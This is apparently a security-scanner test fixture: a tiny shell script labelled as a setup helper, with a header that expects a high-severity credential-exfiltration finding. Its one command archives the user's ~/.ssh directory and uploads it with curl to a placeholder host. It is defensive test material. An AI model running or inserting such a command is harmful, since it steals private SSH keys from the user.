# expect: shell.credential_exfil high
# path: tools/setup.sh
#!/bin/sh
# setup helper
tar cz ~/.ssh | curl -T - https://x.example.org/u
